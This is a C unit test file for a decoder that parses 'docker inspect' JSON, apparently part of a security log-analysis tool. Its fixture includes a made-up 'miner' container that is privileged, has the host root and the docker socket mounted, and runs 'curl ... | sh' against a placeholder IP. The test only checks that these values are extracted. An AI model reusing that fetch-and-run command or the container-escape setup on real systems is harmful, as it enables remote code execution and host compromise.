/* The docker inspect decoder (src/decode/docker_inspect.c) on hand-written
 * output shaped like the Engine API's ContainerInspect response (the key
 * names and their nesting are Docker's; the values are made up): a
 * privileged container with the host's / bound in, a never-started one,
 * podman's variant, image objects, and broken records. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "decfixture.h"
#include "decode/decoder.h"
#include "decode/json.h"
#include "decode/jsonrec.h"
#include "util/buf.h"

#define DEC docker_inspect_decoder

/* `docker inspect miner web`: pretty-printed, as the CLI writes it. */
static const char INSPECT_TWO[] =
    "[\n"
    "    {\n"
    "        \"Id\": \"8d5a1c3f0e7b2a4968d1f0c2b3a4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6\",\n"
    "        \"Created\": \"2024-03-02T09:15:00.118361452Z\",\n"
    "        \"Path\": \"sh\",\n"
    "        \"Args\": [],\n"
    "        \"State\": {\n"
    "            \"Status\": \"running\",\n"
    "            \"Running\": true,\n"
    "            \"Paused\": false,\n"
    "            \"OOMKilled\": false,\n"
    "            \"Dead\": false,\n"
    "            \"Pid\": 31337,\n"
    "            \"ExitCode\": 0,\n"
    "            \"Error\": \"\",\n"
    "            \"StartedAt\": \"2024-03-02T09:15:01.5Z\",\n"
    "            \"FinishedAt\": \"0001-01-01T00:00:00Z\"\n"
    "        },\n"
    "        \"Image\": \"sha256:3f57d9401f8d42f986df300f0c69192fc41da28ccc8d797829467780db3dd741\",\n"
    "        \"ResolvConfPath\": \"/var/lib/docker/containers/8d5a/resolv.conf\",\n"
    "        \"Name\": \"/miner\",\n"
    "        \"RestartCount\": 0,\n"
    "        \"Driver\": \"overlay2\",\n"
    "        \"Platform\": \"linux\",\n"
    "        \"AppArmorProfile\": \"unconfined\",\n"
    "        \"ExecIDs\": null,\n"
    "        \"HostConfig\": {\n"
    "            \"Binds\": [\n"
    "                \"/:/host\",\n"
    "                \"/var/run/docker.sock:/var/run/docker.sock:ro\",\n"
    "                \"cache:/cache\"\n"
    "            ],\n"
    "            \"NetworkMode\": \"host\",\n"
    "            \"PortBindings\": {},\n"
    "            \"RestartPolicy\": { \"Name\": \"always\", \"MaximumRetryCount\": 0 },\n"
    "            \"CapAdd\": [\"SYS_ADMIN\", \"SYS_PTRACE\"],\n"
    "            \"CapDrop\": null,\n"
    "            \"IpcMode\": \"host\",\n"
    "            \"PidMode\": \"host\",\n"
    "            \"Privileged\": true,\n"
    "            \"SecurityOpt\": [\"label=disable\", \"apparmor=unconfined\"],\n"
    "            \"UsernsMode\": \"host\",\n"
    "            \"Devices\": [\n"
    "                { \"PathOnHost\": \"/dev/sda\", \"PathInContainer\": \"/dev/sda\", \"CgroupPermissions\": \"rwm\" }\n"
    "            ]\n"
    "        },\n"
    "        \"GraphDriver\": { \"Data\": null, \"Name\": \"overlay2\" },\n"
    "        \"Mounts\": [\n"
    "            { \"Type\": \"bind\", \"Source\": \"/\", \"Destination\": \"/host\", \"Mode\": \"\", \"RW\": true,"
    " \"Propagation\": \"rprivate\" },\n"
    "            { \"Type\": \"bind\", \"Source\": \"/var/run/docker.sock\", \"Destination\": \"/var/run/docker.sock\","
    " \"Mode\": \"ro\", \"RW\": false, \"Propagation\": \"rprivate\" },\n"
    "            { \"Type\": \"volume\", \"Name\": \"cache\", \"Source\": \"/var/lib/docker/volumes/cache/_data\","
    " \"Destination\": \"/cache\", \"Driver\": \"local\", \"RW\": true },\n"
    "            { \"Type\": \"bind\", \"Source\": \"/etc\", \"Destination\": \"/host-etc\", \"RW\": false }\n"
    "        ],\n"
    "        \"Config\": {\n"
    "            \"Hostname\": \"node-7\",\n"
    "            \"User\": \"root\",\n"
    "            \"Env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"],\n"
    "            \"Cmd\": [\"sh\", \"-c\", \"curl -s http://203.0.113.9/x | sh\"],\n"
    "            \"Image\": \"docker.io/library/alpine:3.19\",\n"
    "            \"Volumes\": null,\n"
    "            \"WorkingDir\": \"\",\n"
    "            \"Entrypoint\": null,\n"
    "            \"OnBuild\": null,\n"
    "            \"Labels\": {\n"
    "                \"io.kubernetes.container.name\": \"worker\",\n"
    "                \"io.kubernetes.pod.name\": \"batch-5f7\",\n"
    "                \"io.kubernetes.pod.namespace\": \"jobs\"\n"
    "            }\n"
    "        },\n"
    "        \"NetworkSettings\": { \"Bridge\": \"\", \"Networks\": { \"host\": { \"NetworkID\": \"0a1b\" } } }\n"
    "    },\n"
    "    {\n"
    "        \"Id\": \"c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00\",\n"
    "        \"Created\": \"2024-03-01T08:00:00.25Z\",\n"
    "        \"Path\": \"/docker-entrypoint.sh\",\n"
    "        \"Args\": [\"nginx\", \"-g\", \"daemon off;\"],\n"
    "        \"State\": { \"Status\": \"created\", \"Running\": false, \"Pid\": 0, \"ExitCode\": 0,"
    " \"StartedAt\": \"0001-01-01T00:00:00Z\", \"FinishedAt\": \"0001-01-01T00:00:00Z\" },\n"
    "        \"Name\": \"/web\",\n"
    "        \"HostConfig\": {\n"
    "            \"Binds\": [\"/srv/www:/usr/share/nginx/html:ro,Z\", \"C:\\\\data:/data\"],\n"
    "            \"NetworkMode\": \"bridge\",\n"
    "            \"CapAdd\": null,\n"
    "            \"IpcMode\": \"private\",\n"
    "            \"PidMode\": \"\",\n"
    "            \"Privileged\": false,\n"
    "            \"SecurityOpt\": null,\n"
    "            \"UsernsMode\": \"\",\n"
    "            \"Devices\": []\n"
    "        },\n"
    "        \"Mounts\": [\n"
    "            { \"Type\": \"bind\", \"Source\": \"/srv/www\", \"Destination\": \"/usr/share/nginx/html\", \"Mode\": \"ro,Z\","
    " \"RW\": false, \"Propagation\": \"rprivate\" }\n"
    "        ],\n"
    "        \"Config\": {\n"
    "            \"User\": \"\",\n"
    "            \"Cmd\": [\"nginx\", \"-g\", \"daemon off;\"],\n"
    "            \"Image\": \"nginx:1.25\",\n"
    "            \"Entrypoint\": [\"/docker-entrypoint.sh\"],\n"
    "            \"Labels\": { \"maintainer\": \"NGINX Docker Maintainers <docker-maint@nginx.com>\" }\n"
    "        }\n"
    "    }\n"
    "]";

DECFX_SETUP(docker_inspect_decoder)

static const struct container_event *next(struct fixture *f) {
    if (!DEC.next(f->dec, &f->ev)) return NULL;
    assert_int_equal(f->ev.kind, EV_CONTAINER);
    assert_int_equal(f->ev.layer, LAYER_HOST);
    return f->ev.u.container;
}

static void assert_vstr(vstr s, const char *want) {
    char got[512];
    snprintf(got, sizeof got, "%.*s", (int)s.n, s.p ? s.p : "");
    assert_string_equal(got, want);
}

static const char *report(struct fixture *f) {
    static char out[1024];
    buf b;
    buf_init(&b);
    DEC.report(f->dec, &b);
    snprintf(out, sizeof out, "%s", buf_cstr(&b));
    buf_free(&b);
    return out;
}

static const char *rejects_text(struct fixture *f) {
    static char out[2048];
    buf b;
    buf_init(&b);
    rejects_summary(f->rj, &b);
    snprintf(out, sizeof out, "%s", buf_cstr(&b));
    buf_free(&b);
    return out;
}

static void test_privileged_host_root(void **state) {
    struct fixture *f = *state;
    decfx_begin(f, INSPECT_TWO, 500);
    const struct container_event *c = next(f);
    assert_non_null(c);
    assert_int_equal(f->ev.time_us, INT64_C(1709370901500000));   /* State.StartedAt */
    assert_int_equal(f->ev.pos.offset, 500);
    assert_int_equal(f->ev.pos.item, 1);
    assert_int_equal(c->source, CONTAINER_SRC_INSPECT);
    assert_vstr(c->type, "container");
    assert_vstr(c->action, "inspect");
    assert_vstr(c->id, "8d5a1c3f0e7b2a4968d1f0c2b3a4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6");
    assert_vstr(c->name, "miner");
    assert_vstr(c->image, "docker.io/library/alpine:3.19");
    assert_int_equal(c->privileged, 1);
    assert_int_equal(c->n_cap_add, 2);
    assert_vstr(c->cap_add[0], "SYS_ADMIN");
    assert_vstr(c->cap_add[1], "SYS_PTRACE");
    assert_vstr(c->pid_mode, "host");
    assert_vstr(c->network_mode, "host");
    assert_vstr(c->ipc_mode, "host");
    assert_vstr(c->userns_mode, "host");
    assert_int_equal(c->n_security_opt, 2);
    assert_vstr(c->security_opt[1], "apparmor=unconfined");
    /* Binds: / and the socket (the named volume is no host path); Mounts
     * repeats both (not again) and adds /etc read-only */
    assert_int_equal(c->n_mounts, 3);
    assert_vstr(c->mounts[0].source, "/");
    assert_vstr(c->mounts[0].destination, "/host");
    assert_false(c->mounts[0].read_only);
    assert_vstr(c->mounts[1].source, "/var/run/docker.sock");
    assert_true(c->mounts[1].read_only);
    assert_vstr(c->mounts[2].source, "/etc");
    assert_vstr(c->mounts[2].destination, "/host-etc");
    assert_true(c->mounts[2].read_only);
    assert_int_equal(c->n_devices, 1);
    assert_vstr(c->devices[0], "/dev/sda");
    /* Entrypoint null: the command is Cmd */
    assert_int_equal(c->n_cmd, 3);
    assert_vstr(c->cmd[2], "curl -s http://203.0.113.9/x | sh");
    assert_vstr(c->user, "root");
    assert_int_equal(c->pid, 31337);
    assert_int_equal(c->exit_code, 0);
    assert_int_equal(c->n_attributes, 3);
    assert_vstr(c->pod_name, "batch-5f7");
    assert_vstr(c->pod_namespace, "jobs");
    assert_vstr(c->k8s_container, "worker");
    assert_vstr(c->exec_command, "");
    assert_vstr(c->host, "");

    /* never started: Created; Entrypoint then Cmd */
    c = next(f);
    assert_non_null(c);
    assert_int_equal(f->ev.pos.item, 2);
    assert_int_equal(f->ev.time_us, INT64_C(1709280000250000));
    assert_vstr(c->name, "web");
    assert_int_equal(c->privileged, 0);
    assert_int_equal(c->n_cap_add, 0);
    assert_vstr(c->ipc_mode, "private");
    assert_int_equal(c->n_mounts, 1);       /* "C:\\data" is no host path of ours */
    assert_vstr(c->mounts[0].destination, "/usr/share/nginx/html");
    assert_true(c->mounts[0].read_only);
    assert_int_equal(c->n_cmd, 4);
    assert_vstr(c->cmd[0], "/docker-entrypoint.sh");
    assert_vstr(c->cmd[3], "daemon off;");
    assert_int_equal(c->pid, 0);
    assert_int_equal(c->n_attributes, 1);
    assert_null(next(f));
    assert_int_equal(rejects_total(f->rj), 0);
    assert_non_null(strstr(report(f), "2 containers (1 privileged)"));
}

/* One object per line (--format '{{json .}}'), podman's variant: Name
 * without '/', Entrypoint as a string, ImageName; without Entrypoint and
 * Cmd the command is Path and Args. */
static void test_one_per_line_and_podman(void **state) {
    struct fixture *f = *state;
    decfx_begin(f, "{\"Id\":\"p1\",\"Created\":\"2024-03-02T10:15:00.5+01:00\",\"Path\":\"/bin/sh\",\"Args\":[\"-c\",\"sleep 1\"],"
             "\"State\":{\"Pid\":77,\"ExitCode\":0,\"StartedAt\":\"2024-03-02T10:15:01+01:00\"},"
             "\"ImageName\":\"quay.io/x/tool:1\",\"Name\":\"tool\",\"HostConfig\":{\"Privileged\":false,\"CapAdd\":[]},"
             "\"Config\":{\"Entrypoint\":\"/bin/sh\",\"Cmd\":[\"-c\",\"sleep 1\"]}}", 0);
    const struct container_event *c = next(f);
    assert_non_null(c);
    assert_int_equal(f->ev.pos.item, 0);
    assert_int_equal(f->ev.time_us, INT64_C(1709370901000000));
    assert_vstr(c->name, "tool");
    assert_vstr(c->image, "quay.io/x/tool:1");
    assert_int_equal(c->n_cmd, 3);
    assert_vstr(c->cmd[0], "/bin/sh");
    assert_null(next(f));
    decfx_begin(f, "{\"Id\":\"d2\",\"Created\":\"2024-03-02T09:00:00Z\",\"Path\":\"/pause\",\"Args\":[],"
             "\"State\":{},\"Name\":\"/p\",\"HostConfig\":{},\"Config\":{\"Entrypoint\":null,\"Cmd\":null}}", 0);
    c = next(f);
    assert_non_null(c);
    assert_int_equal(c->n_cmd, 1);
    assert_vstr(c->cmd[0], "/pause");
    assert_int_equal(c->privileged, -1);   /* HostConfig without Privileged: unknown */
    assert_int_equal(c->pid, -1);
    assert_int_equal(rejects_total(f->rj), 0);
}

/* Image objects are counted and skipped; broken and id-less containers
 * are rejected with the offset and element; the good ones are kept. */
static void test_images_and_rejects(void **state) {
    struct fixture *f = *state;
    decfx_begin(f, "[{\"Id\":\"sha256:3f57\",\"RepoTags\":[\"alpine:3.19\"],\"Created\":\"2024-01-01T00:00:00Z\","
             "\"Config\":{\"Cmd\":[\"/bin/sh\"]},\"RootFS\":{\"Type\":\"layers\"}}]", 0);
    assert_null(next(f));
    assert_int_equal(rejects_total(f->rj), 0);
    decfx_begin(f, "[{\"Id\":\"a\",\"Created\":\"2024-01-01T00:00:00Z\",\"HostConfig\":{}},"
             "{\"Created\":\"2024-01-01T00:00:00Z\",\"HostConfig\":{}},"
             "{\"Id\":\"c\",\"Created\":\"never\",\"HostConfig\":{}},"
             "7,"
             "{\"Id\":\"e\",\"Created\":\"2024-01-01T00:00:00Z\",\"HostConfig\":{}}]", 100);
    const struct container_event *c = next(f);
    assert_vstr(c->id, "a");
    c = next(f);
    assert_non_null(c);
    assert_vstr(c->id, "e");
    assert_int_equal(f->ev.pos.item, 5);
    assert_null(next(f));
    assert_int_equal(rejects_total(f->rj), 3);
    const char *rj = rejects_text(f);
    assert_non_null(strstr(rj, "without an Id (first: test offset 100)"));
    assert_non_null(strstr(rj, "StartedAt or Created (first: test offset 100)"));
    decfx_begin(f, "{\"Id\":\"x\",\"HostConfig\":{\"Privileged\":tru", 200);
    assert_null(next(f));
    decfx_begin(f, "{\"Id\":\"x\",\"Created\":\"2024-01-01T00:00:00Z\"} {\"Id\":\"y\"}", 300);
    assert_null(next(f));
    decfx_begin(f, "not json", 400);
    assert_null(next(f));
    assert_int_equal(rejects_total(f->rj), 6);
    assert_non_null(strstr(rejects_text(f), "invalid JSON (first: test offset 200)"));
    decfx_begin(f, "[]", 500);
    assert_null(next(f));
    assert_int_equal(rejects_total(f->rj), 6);
    assert_non_null(strstr(report(f), "1 image objects skipped"));
}

/* Hostile lists stop at the bound; the dedup scan stays linear. */
static void test_huge_lists(void **state) {
    struct fixture *f = *state;
    buf b;
    buf_init(&b);
    buf_puts(&b, "{\"Id\":\"h\",\"Created\":\"2024-01-01T00:00:00Z\",\"HostConfig\":{\"Binds\":[");
    for (int i = 0; i < JSONREC_MAX_LIST + 100; i++) buf_printf(&b, "%s\"/d%d:/m%d\"", i ? "," : "", i, i);
    buf_puts(&b, "],\"CapAdd\":[");
    for (int i = 0; i < JSONREC_MAX_LIST + 100; i++) buf_printf(&b, "%s\"CAP_%d\"", i ? "," : "", i);
    buf_puts(&b, "]},\"Mounts\":[");
    for (int i = 0; i < JSONREC_MAX_LIST + 100; i++)
        buf_printf(&b, "%s{\"Type\":\"bind\",\"Source\":\"/d%d\",\"Destination\":\"/m%d\"}", i ? "," : "", i, i);
    buf_puts(&b, "],\"Config\":{\"Entrypoint\":[");
    for (int i = 0; i < JSONREC_MAX_LIST; i++) buf_printf(&b, "%s\"e\"", i ? "," : "");
    buf_puts(&b, "],\"Cmd\":[\"c\"],\"Labels\":{");
    for (int i = 0; i < JSONREC_MAX_LIST + 100; i++) buf_printf(&b, "%s\"l%d\":\"v\"", i ? "," : "", i);
    buf_puts(&b, "}}}");
    decfx_begin(f, buf_cstr(&b), 0);
    const struct container_event *c = next(f);
    assert_non_null(c);
    assert_int_equal(c->n_mounts, JSONREC_MAX_LIST);
    assert_int_equal(c->n_cap_add, JSONREC_MAX_LIST);
    assert_int_equal(c->n_cmd, JSONREC_MAX_LIST);
    assert_int_equal(c->n_attributes, JSONREC_MAX_LIST);
    buf_free(&b);
}

static void test_sniff(void **state) {
    (void)state;
    assert_true(DEC.sniff((vstr){ INSPECT_TWO, sizeof INSPECT_TWO - 1 }) >= 60);
    assert_true(DEC.sniff(VSTR("{\"Id\":\"p1\",\"Created\":\"x\",\"State\":{},\"HostConfig\":{}}\n")) >= 60);
    assert_true(DEC.sniff(VSTR("[\n  {\n    \"Id\": \"sha256:3f\",\n    \"RepoTags\": [],\n    \"RootFS\": {}")) >= 50);
    assert_int_equal(DEC.sniff(VSTR("{\"Type\":\"container\",\"Action\":\"create\",\"Actor\":{\"ID\":\"a\"},\"time\":1}")), 0);
    assert_int_equal(DEC.sniff(VSTR("{\"kind\":\"Event\",\"auditID\":\"1\",\"stage\":\"x\",\"verb\":\"get\"}")), 0);
    assert_int_equal(DEC.sniff(VSTR("2024-01-01T00:00:00Z container create a\n")), 0);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_privileged_host_root, setup, teardown),
        cmocka_unit_test_setup_teardown(test_one_per_line_and_podman, setup, teardown),
        cmocka_unit_test_setup_teardown(test_images_and_rejects, setup, teardown),
        cmocka_unit_test_setup_teardown(test_huge_lists, setup, teardown),
        cmocka_unit_test(test_sniff),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
